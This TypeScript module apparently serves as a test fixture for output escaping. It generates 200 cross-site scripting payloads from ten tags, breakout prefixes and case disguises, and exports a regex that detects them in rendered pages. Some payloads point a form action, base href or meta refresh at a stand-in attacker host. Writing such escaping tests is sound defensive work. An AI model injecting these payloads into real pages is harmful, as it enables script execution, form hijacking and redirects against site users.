const TAGS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<form action=https://evil.example><button>x',
  '<base href=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
];
const BREAKOUTS = ['', '"', "'", '">', "'>", '</p>', '</textarea>', '</title>', '</script>', '-->'];
const DISGUISES = [(text: string) => text, (text: string) => text.replaceAll('<', '<\n').toUpperCase()];

/** 200 texts that would run or load something where a page did not escape them. */
export const HOSTILE_TEXTS: readonly string[] = TAGS.flatMap((tag) =>
  BREAKOUTS.flatMap((breakout) => DISGUISES.map((disguise) => disguise(breakout + tag))),
);

/** What a page must not hold, whichever of the texts it shows. */
export const HOSTILE_MARKUP =
  /<\s*(?:script>alert|img src=x|svg onload|iframe srcdoc|a href="javascript|math>|details open ontoggle|form action=https|base href=https|meta http-equiv=refresh)/i;
